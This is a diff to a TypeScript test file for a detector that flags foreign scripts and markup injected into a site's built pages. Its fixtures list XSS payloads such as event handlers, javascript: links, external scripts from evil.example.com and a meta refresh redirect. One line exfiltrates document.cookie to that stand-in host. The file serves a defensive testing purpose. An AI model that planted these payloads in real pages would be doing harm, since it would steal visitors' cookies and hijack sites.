@@ -1,4 +1,4 @@
-import { smuggledInto, smuggledSentence } from "../../../src/build/inline-scripts"
+import { foreignMarkup, foreignSentence } from "../../../../src/build/publish/inline-scripts"
 
 const own = "start()"
 const page = (inside: string) => `<!doctype html><html><body>${inside}</body></html>`
@@ -9,7 +9,7 @@ test("the site's own scripts, data and links are no fault", () => {
       `<script type="application/ld+json">{"name":"x"}</script>` +
       `<a href="https://www.example.com" data-once="1">Online</a> onclick=alert(1) javascript:`,
   )
-  expect(smuggledInto(html, [own])).toEqual([])
+  expect(foreignMarkup(html, [own])).toEqual([])
 })
 
 test.each([
@@ -19,6 +19,13 @@ test.each([
   ["<svg><script>alert(1)</script></svg>", "an inline script"],
   [`<script src="https://evil.example.com/x.js"></script>`, "a script of another site"],
   [`<script src="//evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<script src="/\\evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<svg><script href="https://evil.example.com/x.js"></script></svg>`, "a script of another site"],
+  [
+    `<meta http-equiv="refresh" content="0;url=https://evil.example.com">`,
+    "a page that leads elsewhere by itself",
+  ],
+  [`<style>body{display:none}</style>`, "the element <style>"],
   [`<img src="x" onerror="alert(1)">`, "the event handler onerror"],
   ["<details open ontoggle=alert(1)>x</details>", "the event handler ontoggle"],
   [`<a href="javascript:alert(1)">x</a>`, "an address that runs a script (href)"],
@@ -27,7 +34,7 @@ test.each([
   [`<iframe src="/"></iframe>`, "the element <iframe>"],
   [`<base href="https://evil.example.com/">`, "the element <base>"],
 ])("%s is found", (inside, what) => {
-  expect(smuggledInto(page(inside), [own]).map((each) => each.what)).toContain(what)
+  expect(foreignMarkup(page(inside), [own]).map((each) => each.what)).toContain(what)
 })
 
 test("the sentence names the page, the beginning of the text, and the file it was written in", () => {
@@ -36,14 +43,14 @@ test("the sentence names the page, the beginning of the text, and the file it wa
     { path: "site/home.json", text: "{}" },
     { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
   ]
-  expect(smuggledSentence("plank/index.html", { what: "an inline script", text }, content)).toBe(
-    'public/plank/index.html holds an inline script that is not one of the site\'s own: fetch("https://evil.example.com/?" + document.cookie). It stands in content/products/plank.json: take it out there.',
+  expect(foreignSentence("/plank", { what: "an inline script", text }, content)).toBe(
+    'The page /plank holds an inline script that is not one of the site\'s own: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
   )
 })
 
 test("where no file of the content holds it, the sentence leaves that out", () => {
   const found = { what: "an inline script", text: "x()" }
-  expect(smuggledSentence("index.html", found, [])).toBe(
-    "public/index.html holds an inline script that is not one of the site's own: x().",
+  expect(foreignSentence("/", found, [])).toBe(
+    "The page / holds an inline script that is not one of the site's own: x().",
   )
 })
